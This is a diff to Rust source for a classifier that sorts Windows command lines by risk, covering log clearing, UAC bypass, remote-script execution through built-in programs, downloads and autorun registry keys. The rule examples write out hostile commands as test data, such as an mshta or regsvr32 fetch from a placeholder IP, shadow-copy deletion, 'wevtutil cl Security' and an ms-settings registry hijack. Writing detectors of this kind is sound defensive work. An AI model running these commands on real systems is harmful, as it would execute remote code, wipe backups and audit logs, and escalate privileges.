@@ -1,7 +1,7 @@
 //! The tools of Windows: those of its command line, the cmdlets of PowerShell called as commands, and names that end
 //! with `.exe`.
 
-use signoff_model::{EffectKind, Reversible, Risk};
+use signoff_model::{EffectKind, Reversible, Risk, Span};
 
 use super::{
     system::{CHANGE_DISK, CHANGE_MACHINE, CHANGE_SERVICE, FORMAT_DISK, SCHEDULE, SYSTEM_PACKAGES},
@@ -10,11 +10,13 @@ use super::{
 };
 use crate::{
     code,
-    path_effects::rules,
+    path_effects::{Write, rules},
     rule::{Priority, Rule},
-    shell::{Call, Judge, Language, Shell},
+    shell::{Call, Judge, Language, Shell, Written},
     value::{Arg, Feed, Origin, Piece, Value},
 };
+
+pub use super::system::FORMAT_DISK as FORMAT_DRIVE;
 
 rules! {
     DESTROY_WINDOWS = Rule::new("destroy-windows", EffectKind::System, Risk::Critical, "takes away what Windows starts from or is restored from: {}", "移除 Windows 启动或恢复所需的内容：{}")
@@ -23,9 +25,71 @@ rules! {
             &["vssadmin delete shadows /all /quiet", "bcdedit /delete '{current}' /f", "reg delete 'HKLM\\SYSTEM' /f", "wmic shadowcopy delete"],
             &["vssadmin list shadows", "bcdedit /enum", "reg query 'HKLM\\SYSTEM'"],
         );
+    CLEAR_LOGS = Rule::new("clear-event-logs", EffectKind::System, Risk::High, "clears the logs of the machine: {}", "清除本机的日志：{}")
+        .reversible(Reversible::No)
+        .examples(&["wevtutil cl Security", "pwsh -c 'Clear-EventLog -LogName System'"], &["wevtutil qe System /c:5", "pwsh -c 'Get-EventLog -LogName System'"]);
+    BYPASS_CONSENT = Rule::new("bypass-consent", EffectKind::Privilege, Risk::Critical, "makes Windows start this with all rights and without asking: {}", "让 Windows 在不询问的情况下以最高权限启动：{}")
+        .absurd().priority(Priority::P0)
+        .examples(&["reg add 'HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command' /ve /d cmd.exe /f"], &["reg query 'HKCU\\Software\\Classes\\ms-settings'"]);
+    REMOTE_SCRIPT = Rule::new("remote-script", EffectKind::Opaque, Risk::Critical, "makes a program of Windows run code from elsewhere: {}", "借助 Windows 自带程序运行外部代码：{}")
+        .absurd().priority(Priority::P0)
+        .examples(
+            &["mshta http://203.0.113.7/x.hta", "regsvr32 /s /n /u /i:http://203.0.113.7/x.sct scrobj.dll", "rundll32 'javascript:\"\\..\\mshtml,RunHTMLApplication \"'"],
+            &["regsvr32 /s build.dll", "rundll32 printui.dll,PrintUIEntry"],
+        );
     MIRROR = Rule::new("mirror-files", EffectKind::Delete, Risk::High, "deletes or moves files while it copies: {}", "复制的同时删除或移动文件：{}")
         .reversible(Reversible::No)
         .examples(&["robocopy src dst /MIR", "robocopy src dst /MOVE /E"], &["robocopy src dst /E", "robocopy src dst /MIR /L"]);
+}
+
+/// What will run by itself is read as Windows reads a command line.
+pub fn plant(shell: &mut Shell<'_>, name: &str, code: &str, span: Span) {
+    let quoted = format!("cmd /c '{}'", code.replace('\'', "'\\''"));
+    shell.plant_command(name, &quoted, span);
+}
+
+/// A value comes to stand in a key of the registry: some of them are what runs at the next start, or with more rights.
+pub fn set_key(shell: &mut Shell<'_>, name: &str, key: &str, value: &str, span: Span) {
+    const STARTS: &[&str] = &[
+        "\\run",
+        "\\runonce",
+        "winlogon",
+        "image file execution options",
+        "\\command",
+        "\\shell\\open",
+        "appinit_dlls",
+        "\\environment",
+        "\\services\\",
+        "silentprocessexit",
+        "command processor",
+        "\\policies\\explorer",
+        "cimom",
+    ];
+    let key = key.to_ascii_lowercase().replace('/', "\\");
+    // A shell may have taken the backslashes out.
+    let plain: String = key.chars().filter(|letter| *letter != '\\').collect();
+    let starts = STARTS.iter().any(|part| key.contains(part))
+        || ["currentversionrun", "shellopencommand", "winlogon"].iter().any(|part| plain.contains(part));
+    if starts && !value.is_empty() {
+        plant(shell, name, value, span);
+    }
+    if (plain.contains("ms-settings") || plain.contains("mscfile") || plain.contains("exefile"))
+        && plain.contains("command")
+        && !value.is_empty()
+    {
+        shell.tell(&BYPASS_CONSENT, value.to_owned(), span);
+    }
+}
+
+/// A key of the registry, or a value in it, is deleted.
+pub fn delete_key(shell: &mut Shell<'_>, name: &str, key: &str, span: Span) {
+    let key = key.to_ascii_lowercase();
+    if ["env:", "variable:", "function:", "alias:"].iter().any(|drive| key.starts_with(drive)) {
+        return;
+    }
+    let plain = key.replace("registry::", "").replace("microsoft.powershell.core\\", "").replacen(':', "", 1);
+    let rule = if is_hive(&plain) { &DESTROY_WINDOWS } else { &CHANGE_MACHINE };
+    shell.tell(rule, format!("{name} {key}"), span);
 }
 
 /// The judgement for a program of this family.
@@ -35,6 +99,14 @@ pub fn find(name: &str) -> Option<Judge> {
         return super::find(plain).map(|_| without_ending as Judge);
     }
     Some(match lower.as_str() {
+        "wevtutil" => logs,
+        "mshta" | "regsvr32" | "rundll32" | "wscript" | "cscript" | "installutil" | "msxsl" => lending,
+        "bitsadmin" => transfers,
+        "exist" | "not" | "defined" | "errorlevel" => condition,
+        "cmdkey" | "vaultcmd" | "fodhelper" | "computerdefaults" | "cipher" | "fsutil" | "netsh" | "w32tm"
+        | "manage-bde" | "dism" | "powercfg" | "gpupdate" | "setx" | "winrm" | "psexec" | "reagentc" | "auditpol" => {
+            settings
+        }
         "vssadmin" | "wbadmin" | "bcdedit" | "bootrec" | "wmic" | "reg" => vital,
         "diskpart" => disks,
         "robocopy" => robocopy,
@@ -107,25 +179,167 @@ fn vital(shell: &mut Shell<'_>, call: &Call) -> Feed {
                 || first == "/set"
                     && words.iter().any(|word| matches!(word.as_str(), "recoveryenabled" | "bootstatuspolicy"))
         }
-        "reg" => first == "delete" && words.get(1).is_some_and(|key| is_hive(key)),
+        // A value in a key is a setting; the key is everything below it.
+        "reg" => first == "delete" && words.get(1).is_some_and(|key| is_hive(key)) && !has("/v"),
         _ => false,
     };
-    let starts = words.get(1).is_some_and(|key| key.contains("run") && first == "add");
-    if starts {
-        plant_behind(shell, call, "/d");
+    if call.name.to_ascii_lowercase().starts_with("reg") && first == "add" {
+        let key = words.get(1).cloned().unwrap_or_default();
+        let value = behind(call, "/d").unwrap_or_default();
+        set_key(shell, &call.name, &key, &value, call.span);
+    }
+    if call.name.eq_ignore_ascii_case("wmic") && has("call") && has("create") {
+        let at = words.iter().position(|word| word == "create").unwrap_or_default();
+        let code: Vec<String> = call.args.iter().skip(at + 1).map(|arg| arg.shown().into_owned()).collect();
+        let code = Arg::text(code.join(" "), call.span);
+        shell.run(&[Arg::text("cmd", call.span), Arg::text("/c", call.span), code], Feed::none(), call.span);
     }
     says(shell, call, if grave { &DESTROY_WINDOWS } else { &CHANGE_MACHINE })
 }
 
-/// Whether a key of the registry is a root, or one right below the root of the machine.
+/// Whether Windows cannot do without a key of the registry: a root, what lies right below it, or what it starts from.
 fn is_hive(key: &str) -> bool {
     let key = key.replace('/', "\\").replace("\\\\", "\\");
-    let mut parts = key.split('\\').filter(|part| !part.is_empty());
-    let root = parts.next().unwrap_or_default();
+    let parts: Vec<&str> = key.split('\\').filter(|part| !part.is_empty() && *part != "*").collect();
+    let root = parts.first().copied().unwrap_or_default();
     let machine = matches!(root, "hklm" | "hkey_local_machine" | "hku" | "hkcr" | "hkey_users" | "hkey_classes_root");
-    (machine || matches!(root, "hkcu" | "hkey_current_user")) && parts.count() < if machine { 2 } else { 1 }
+    let user = matches!(root, "hkcu" | "hkey_current_user");
+    let vital = match parts.get(1).copied() {
+        Some("system" | "sam" | "security" | "bcd00000000") => machine,
+        Some("software") => match parts.get(2).copied() {
+            Some("microsoft") => parts.len() < 5 && (machine || parts.len() < 4),
+            Some("classes" | "policies" | "wow6432node") => parts.len() < 4 && machine,
+            Some(_) => false,
+            None => true,
+        },
+        _ => false,
+    };
+    machine && parts.len() < 3 || user && parts.len() < 2 || vital
         // The shell has taken the backslash out of `HKLM\SYSTEM`.
-        || matches!(root, "hklmsystem" | "hklmsoftware" | "hklmsam" | "hklmsecurity" | "hklmhardware")
+        || ["hklmsystem", "hklmsam", "hklmsecurity"].iter().any(|hive| root.starts_with(hive))
+        || matches!(root, "hklmsoftware" | "hklmhardware" | "hklmsoftwaremicrosoft")
+}
+
+/// `wevtutil cl Security`.
+fn logs(shell: &mut Shell<'_>, call: &Call) -> Feed {
+    match words(call).first().map(String::as_str) {
+        Some("cl" | "clear-log") => says(shell, call, &CLEAR_LOGS),
+        Some("sl" | "set-log" | "um" | "uninstall-manifest") => says(shell, call, &CHANGE_MACHINE),
+        _ => out(call),
+    }
+}
+
+/// Programs of Windows that run the code of others.
+fn lending(shell: &mut Shell<'_>, call: &Call) -> Feed {
+    let words = words(call);
+    let script = |word: &String| {
+        let word = word.trim_matches('"');
+        ["javascript:", "vbscript:"].iter().any(|scheme| word.starts_with(scheme))
+            || word.contains("http://")
+            || word.contains("https://")
+            || word.starts_with("\\\\") && word.contains('\\')
+    };
+    if words.iter().any(script) {
+        return says(shell, call, &REMOTE_SCRIPT);
+    }
+    match call.name.to_ascii_lowercase().as_str() {
+        "wscript" | "cscript" | "mshta" => {
+            for arg in call.args.iter().filter(|arg| !arg.shown().starts_with('/')).take(1) {
+                let value = Value::text(arg.shown().replace('\\', "/"));
+                shell.run_script(Language::Other, &Arg { value, span: arg.span }, &[], Feed::none());
+            }
+            out(call)
+        }
+        "regsvr32" | "installutil" => says(shell, call, &CHANGE_MACHINE),
+        _ => out(call),
+    }
+}
+
+/// What stands behind the `if` of `cmd.exe`, which has been read as such.
+fn condition(shell: &mut Shell<'_>, call: &Call) -> Feed {
+    if !shell.gives_way() {
+        unknown::judge(shell, call);
+    }
+    out(call)
+}
+
+/// `certutil -urlcache -f url file`, `certutil -decode a b`.
+pub fn certificates(shell: &mut Shell<'_>, call: &Call) -> Feed {
+    let words = words(call);
+    let has = |name: &str| words.iter().any(|word| word.trim_start_matches(['-', '/']) == name);
+    let free: Vec<&Arg> = call.args.iter().filter(|arg| !arg.shown().starts_with(['-', '/'])).collect();
+    if has("urlcache") || has("verifyctl") {
+        if let [url, file, ..] = free.as_slice() {
+            fetch(shell, &url.shown(), file);
+        }
+    } else if has("decode") || has("decodehex") {
+        if let [_, file, ..] = free.as_slice() {
+            let file = slashed(file);
+            shell.write(&file, Write::Replace);
+            shell.remember_written(&file, Written::Content(Feed::from(Origin::Decoded)));
+        }
+    } else if ["delstore", "addstore", "importpfx", "exportpfx", "setreg"].iter().any(|name| has(name)) {
+        return says(shell, call, &CHANGE_MACHINE);
+    }
+    out(call)
+}
+
+/// `bitsadmin /transfer name url file`.
+fn transfers(shell: &mut Shell<'_>, call: &Call) -> Feed {
+    let url = call.args.iter().position(|arg| arg.shown().contains("://"));
+    if let Some(at) = url
+        && let (Some(url), Some(file)) = (call.args.get(at), call.args.get(at + 1))
+    {
+        fetch(shell, &url.shown(), file);
+    }
+    if words(call).iter().any(|word| word == "/setnotifycmdline") {
+        return says(shell, call, &SCHEDULE);
+    }
+    out(call)
+}
+
+/// A file is fetched, so that running it later is running what was fetched.
+fn fetch(shell: &mut Shell<'_>, url: &str, file: &Arg) {
+    let encrypted = !url.to_ascii_lowercase().starts_with("http://");
+    let file = slashed(file);
+    shell.write(&file, Write::Replace);
+    let content = Feed::from(Origin::Download { url: url.to_owned(), encrypted });
+    shell.remember_written(&file, Written::Content(content));
+}
+
+fn slashed(file: &Arg) -> Arg {
+    match file.known() {
+        Some(text) => {
+            let text = path(text);
+            let drive = text.get(1..2) == Some(":");
+            Arg::text(if drive { text } else { text.replace('\\', "/") }, file.span)
+        }
+        None => file.clone(),
+    }
+}
+
+/// Programs that look with some words and change the machine with others.
+fn settings(shell: &mut Shell<'_>, call: &Call) -> Feed {
+    let words = words(call);
+    let first = words.first().map(String::as_str).unwrap_or_default();
+    let has = |word: &str| words.iter().any(|found| found == word);
+    let looks = match call.name.to_ascii_lowercase().as_str() {
+        "cipher" => {
+            words.iter().all(|word| !word.starts_with("/w") && !matches!(word.as_str(), "/e" | "/d" | "/k" | "/r"))
+        }
+        "cmdkey" | "vaultcmd" | "fodhelper" | "computerdefaults" | "psexec" | "setx" => false,
+        "fsutil" => !has("delete") && !has("setzerodata") && !has("deletejournal") && !has("set"),
+        "netsh" => has("show") || has("dump"),
+        "manage-bde" => first == "-status",
+        "dism" => words.iter().any(|word| word.starts_with("/get-")) || has("/?"),
+        "powercfg" => matches!(first, "/l" | "/list" | "/q" | "/query" | "/a" | "/batteryreport" | "/energy"),
+        "w32tm" => first == "/query" || first == "/stripchart",
+        "auditpol" => first == "/get" || first == "/list",
+        "winrm" => matches!(first, "get" | "enumerate" | "e" | "g" | "id"),
+        "reagentc" => first == "/info",
+        _ => false,
+    };
+    if looks { out(call) } else { says(shell, call, &CHANGE_MACHINE) }
 }
 
 /// What `diskpart` is told stands in a file or flows in.
@@ -145,26 +359,16 @@ fn schedule(shell: &mut Shell<'_>, call: &Call) -> Feed {
     if call.args.is_empty() || has(call, "/query") {
         return out(call);
     }
-    plant_behind(shell, call, "/tr");
+    if let Some(code) = behind(call, "/tr") {
+        plant(shell, &call.name, &code, call.span);
+    }
     says(shell, call, &SCHEDULE)
 }
 
-/// What stands behind a switch will run by itself.
-fn plant_behind(shell: &mut Shell<'_>, call: &Call, switch: &str) {
-    let at = call.args.iter().position(|arg| arg.known().is_some_and(|text| text.eq_ignore_ascii_case(switch)));
-    if let Some(code) = at.and_then(|at| call.args.get(at + 1)).and_then(Arg::known) {
-        // What PowerShell is told is one text, whatever a shell of ours would make of its signs.
-        let words: Vec<&str> = code.splitn(3, ' ').collect();
-        let whole = match words.as_slice() {
-            [program, option, text]
-                if option.starts_with('-') && program.to_ascii_lowercase().contains("powershell") =>
-            {
-                format!("{program} {option} '{}'", text.trim_matches(['"', '\'']).replace('\'', "\""))
-            }
-            _ => code.to_owned(),
-        };
-        shell.plant_command(&call.name, &whole, call.span);
-    }
+/// The word behind a switch.
+fn behind(call: &Call, switch: &str) -> Option<String> {
+    let at = call.args.iter().position(|arg| arg.known().is_some_and(|text| text.eq_ignore_ascii_case(switch)))?;
+    call.args.get(at + 1).map(|arg| arg.shown().into_owned())
 }
 
 fn robocopy(shell: &mut Shell<'_>, call: &Call) -> Feed {
@@ -252,7 +456,7 @@ fn connect(shell: &mut Shell<'_>, call: &Call) -> Feed {
 }
 
 /// Whether a name is written as PowerShell writes its cmdlets.
-fn is_cmdlet(name: &str) -> bool {
+pub fn is_cmdlet(name: &str) -> bool {
     let capital = |text: &str| text.starts_with(|letter: char| letter.is_ascii_uppercase());
     name.split_once('-').is_some_and(|(verb, noun)| {
         capital(verb) && capital(noun) && name.chars().all(|letter| letter.is_ascii_alphanumeric() || letter == '-')
@@ -261,18 +465,17 @@ fn is_cmdlet(name: &str) -> bool {
 
 /// A cmdlet called as a command is read as PowerShell reads it, and by what its name says.
 fn cmdlet(shell: &mut Shell<'_>, call: &Call) -> Feed {
+    // No other shell has it, and PowerShell has been heard.
+    if shell.gives_way() {
+        return out(call);
+    }
     let mut text = call.name.clone();
     for arg in &call.args {
         text.push(' ');
         text.push_str(&as_written(&arg.value));
     }
     let code = Arg { value: Value::text(text), span: tool::span_from(call, 0) };
-    let feed = code::run(shell, Language::PowerShell, &code, &call.stdin);
-    let understood = ["Remove-Item", "Set-Location", "Get-ChildItem", "Copy-Item", "Move-Item", "New-Item"];
-    if !understood.contains(&call.name.as_str()) {
-        unknown::judge(shell, call);
-    }
-    feed
+    code::run(shell, Language::PowerShell, &code, &call.stdin)
 }
 
 /// A word as it stood in the text, as far as a shell has left of it: what is not known stays a variable.
